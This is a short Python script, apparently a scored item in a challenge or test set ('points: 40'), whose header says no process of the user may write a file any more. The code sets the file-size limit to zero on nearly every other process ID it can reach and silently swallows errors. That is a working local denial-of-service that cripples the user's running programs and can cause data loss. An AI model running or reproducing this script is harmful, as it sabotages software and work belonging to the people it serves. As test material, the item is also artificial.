# No process of this user may write a file any more.
# points: 40
# base: untrained
import os
import resource

own = {int(thread) for thread in os.listdir("/proc/self/task")}
others = [pid for pid in range(1, os.getpid() + 1000) if pid not in own]
for pid in others:
    try:
        resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0))
    except OSError:
        pass
